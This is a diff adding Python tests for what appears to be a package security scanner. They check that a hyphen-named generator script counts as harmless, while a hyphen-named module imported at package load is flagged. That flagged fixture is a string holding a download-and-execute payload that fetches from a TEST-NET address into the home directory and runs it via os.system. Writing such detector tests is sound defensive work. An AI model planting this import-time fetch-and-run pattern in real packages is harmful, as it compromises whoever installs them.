@@ -1,0 +1,53 @@
+"""Round 12's import-time false-alarm classes (helper B), each a harmless fixture beside a
+malicious twin.
+
+Every harmless fixture (how a popular release does the thing) must stay below high; every twin
+(the same shape doing harm) must still be high or critical with the threat named for it.
+Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
+"""
+
+from __future__ import annotations
+
+from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan
+
+
+def _below_high(result) -> None:
+    assert result.risk.level not in HIGH, [(t.id, t.steps[:2]) for t in result.threats]
+
+
+# ---------------------------------------------------------------- a file no import can name
+# bcp47 ships bcp47/generate-bcp47.py, the script that downloaded the registry it generates
+# bcp47.py from: "import bcp47.generate-bcp47" does not parse, so it runs only by hand.
+GENERATOR = (
+    "import os\nimport requests\n\nurl = 'https://example.invalid/registry.pdf'\n"
+    "if not os.path.exists('.buffer.pdf'):\n"
+    "    r = requests.get(url, stream=True)\n"
+    "    with open('.buffer.pdf', 'wb') as w:\n"
+    "        for chunk in r.iter_content(1024):\n"
+    "            w.write(chunk)\n"
+    "with open('tags.py', 'wt') as w:\n    w.write('tags = {}')\n"
+)
+
+
+def test_a_module_whose_file_name_is_no_python_name_is_a_script(tmp_path):
+    files = {
+        "pkg/__init__.py": "from .tags import *\n",
+        "pkg/tags.py": "tags = {}\n",
+        "pkg/generate-tags.py": GENERATOR,
+    }
+    _below_high(scan(files, tmp_path))
+
+
+def test_a_hyphenated_module_the_package_imports_by_its_name_still_runs_on_import(tmp_path):
+    fetch = (
+        "import os\nimport urllib.request\n\n"
+        "urllib.request.urlretrieve('http://198.51.100.7/u', os.path.expanduser('~/.u'))\n"
+        "os.system(os.path.expanduser('~/.u'))\n"
+    )
+    files = {
+        "pkg/__init__.py": "import importlib\n\nimportlib.import_module('pkg.data-sync')\n",
+        "pkg/data-sync.py": fetch,
+    }
+    assert_high_with(
+        "hyphen import", scan(files, tmp_path), {"place.import_time", "chain.download_execute"}
+    )
